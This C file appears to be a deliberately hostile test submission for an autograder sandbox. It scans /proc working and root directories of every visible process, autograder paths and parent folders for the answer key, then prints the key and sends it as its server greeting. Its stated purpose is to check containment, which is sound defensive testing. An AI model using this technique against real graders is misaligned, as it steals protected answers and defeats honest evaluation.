/*
 * HOSTILE submission of chapters/01_hello/hello_server.c
 * does: looks for the answer key (solutions/01_hello/answers.txt) from
 *   every process it can see: /proc/<pid>/cwd and /proc/<pid>/root of
 *   every pid in /proc and of its ancestors (PPid of /proc/<pid>/status),
 *   each with the relative paths of KEY_PATHS below; also
 *   /autograder/source/workbook/solutions/01_hello/answers.txt, each level
 *   above its working folder (up to 8), and the path in the environment
 *   variable WORKBOOK_HOSTILE_KEY if set (a test passes the real key's path
 *   there, to make the attack as strong as it can be). Every key it reads
 *   is copied to stderr and stdout, each line prefixed "HOSTILE: key:";
 *   then it serves like the reference, except that if it found a key, its
 *   greeting is the key's first bytes instead of "Hello World!": the test
 *   fails, and the feedback the student sees (make check's table, make
 *   grade's report, Gradescope's results.json) quotes the key.
 * expect: it finds nothing (own PID namespace: only its own processes in
 *   /proc; only /usr and /etc of the machine visible), says
 *   "HOSTILE: found no key", greets with "Hello World!", and no line of
 *   the key shows in its output, the test's log or the student's feedback
 *
 * It attacks first, bounded (under 2 s), says on stderr what it achieved
 * (lines starting "HOSTILE:"), then checks nothing more and serves like the
 * reference, so that only containment is under test (tests/selftest/
 * test_sandbox.py).
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int parse_port(const char *text, in_port_t *port)
{
    unsigned long value;
    const char *p;

    if (*text == '\0')
        return -1;
    for (p = text; *p != '\0'; p++)
        if (*p < '0' || *p > '9')
            return -1;
    errno = 0;
    value = strtoul(text, NULL, 10);
    if (errno != 0 || value < 1 || value > 65535)
        return -1;
    *port = (in_port_t)value;
    return 0;
}

/* socket(), bind() to the port, listen(): the descriptor, or exit(1) */
static int listen_on(in_port_t port)
{
    struct sockaddr_in addr;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    int one = 1;

    if (fd == -1 || setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one) == -1) {
        perror("socket");
        exit(1);
    }
    memset(&addr, 0, sizeof addr);
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_ANY);
    addr.sin_port = htons(port);
    if (bind(fd, (struct sockaddr *)&addr, sizeof addr) == -1) {
        perror("bind");
        exit(1);
    }
    if (listen(fd, 5) == -1) {
        perror("listen");
        exit(1);
    }
    return fd;
}

static char first_key[256];   /* the first key found: sent as the greeting */
static size_t first_key_len;

static void greet(int listen_fd)
{
    int conn = accept(listen_fd, NULL, NULL);
    const char *text = first_key_len ? first_key : "Hello World!";
    size_t len = first_key_len ? first_key_len : 12;

    if (conn == -1) {
        perror("accept");
        exit(1);
    }
    if (write(conn, text, len) != (ssize_t)len)
        perror("write");
    close(conn);
}

#define MAX_KEYS 64            /* distinct files shown */
#define MAX_KEY_BYTES 65536    /* of each */
#define MAX_DUPLICATES 32      /* "same file" lines shown */

/* from each /proc/<pid>/cwd and /proc/<pid>/root */
static const char *const KEY_PATHS[] = {
    "solutions/01_hello/answers.txt",
    "workbook/solutions/01_hello/answers.txt",
    "source/workbook/solutions/01_hello/answers.txt",
    "../solutions/01_hello/answers.txt",
    "../../solutions/01_hello/answers.txt",
    "../../../solutions/01_hello/answers.txt",
};

static struct stat shown[MAX_KEYS];
static int nshown, nduplicates;

static double seconds(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* one line to stderr and to stdout */
static void leak(const char *text, size_t len)
{
    fprintf(stderr, "HOSTILE: key: %.*s\n", (int)len, text);
    printf("HOSTILE: key: %.*s\n", (int)len, text);
}

/* the file at `path`, if it is a readable regular file, copied out once */
static void steal(const char *path)
{
    static char text[MAX_KEY_BYTES];
    struct stat st;
    size_t len = 0;
    ssize_t got;
    char *line, *nl;
    int i, in = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY);

    if (in == -1)
        return;
    if (fstat(in, &st) == -1 || !S_ISREG(st.st_mode)) {
        close(in);
        return;
    }
    for (i = 0; i < nshown; i++)
        if (shown[i].st_dev == st.st_dev && shown[i].st_ino == st.st_ino) {
            if (nduplicates++ < MAX_DUPLICATES)
                fprintf(stderr, "HOSTILE: key: (again) %s\n", path);
            close(in);
            return;
        }
    if (nshown == MAX_KEYS) {
        close(in);
        return;
    }
    shown[nshown++] = st;
    while (len < sizeof text && (got = read(in, text + len, sizeof text - len)) > 0)
        len += (size_t)got;
    close(in);
    if (first_key_len == 0) {
        first_key_len = len < sizeof first_key ? len : sizeof first_key;
        memcpy(first_key, text, first_key_len);
    }
    fprintf(stderr, "HOSTILE: key: from %s (%lu bytes)\n", path, (unsigned long)len);
    printf("HOSTILE: key: from %s (%lu bytes)\n", path, (unsigned long)len);
    for (line = text; line < text + len; line = nl + 1) {
        nl = memchr(line, '\n', (size_t)(text + len - line));
        if (nl == NULL)
            nl = text + len;
        leak(line, (size_t)(nl - line));
    }
}

/* every path of KEY_PATHS under /proc/<pid>/cwd and /proc/<pid>/root */
static void from_process(long pid)
{
    static const char *const views[] = {"cwd", "root"};
    char path[4096];
    size_t v, k;

    for (v = 0; v < sizeof views / sizeof views[0]; v++)
        for (k = 0; k < sizeof KEY_PATHS / sizeof KEY_PATHS[0]; k++) {
            snprintf(path, sizeof path, "/proc/%ld/%s/%s", pid, views[v], KEY_PATHS[k]);
            steal(path);
        }
}

/* the PPid: line of /proc/<pid>/status, or -1 */
static long parent_of(long pid)
{
    char path[64], line[256];
    long ppid = -1;
    FILE *status;

    snprintf(path, sizeof path, "/proc/%ld/status", pid);
    status = fopen(path, "r");
    if (status == NULL)
        return -1;
    while (fgets(line, sizeof line, status) != NULL)
        if (strncmp(line, "PPid:", 5) == 0) {
            ppid = strtol(line + 5, NULL, 10);
            break;
        }
    fclose(status);
    return ppid;
}

static void attack(void)
{
    double start = seconds();
    const char *key = getenv("WORKBOOK_HOSTILE_KEY");
    char path[4096];
    struct dirent *entry;
    DIR *proc;
    long pid;
    int level, n;

    if (key != NULL)
        steal(key);
    /* its ancestors first: the grader is one of them */
    for (pid = (long)getppid(), n = 0; pid > 0 && n < 64; pid = parent_of(pid), n++)
        from_process(pid);
    proc = opendir("/proc");
    while (proc != NULL && (entry = readdir(proc)) != NULL && seconds() - start < 2.0) {
        pid = strtol(entry->d_name, NULL, 10);
        if (pid > 0 && strspn(entry->d_name, "0123456789") == strlen(entry->d_name))
            from_process(pid);
    }
    if (proc != NULL)
        closedir(proc);
    steal("/autograder/source/workbook/solutions/01_hello/answers.txt");
    /* solutions/ next to a folder above its own: ./, ../, ../../, ... */
    strcpy(path, ".");
    for (level = 0; level <= 8; level++) {
        char try[4200];

        snprintf(try, sizeof try, "%s/solutions/01_hello/answers.txt", path);
        steal(try);
        if (level == 0)
            strcpy(path, "..");
        else
            strcat(path, "/..");
    }
    if (nshown == 0)
        fprintf(stderr, "HOSTILE: found no key\n");
    else
        fprintf(stderr, "HOSTILE: read %d key file(s)\n", nshown);
    fflush(stdout);
}

int main(int argc, char *argv[])
{
    in_port_t port;
    int fd;

    if (argc != 2) {
        fprintf(stderr, "Usage: hello_server <port>\n");
        return 1;
    }
    if (parse_port(argv[1], &port) == -1) {
        fprintf(stderr, "hello_server: invalid port '%s'\n", argv[1]);
        return 1;
    }
    signal(SIGPIPE, SIG_IGN);
    attack();
    fd = listen_on(port);
    greet(fd);
    return 0;
}
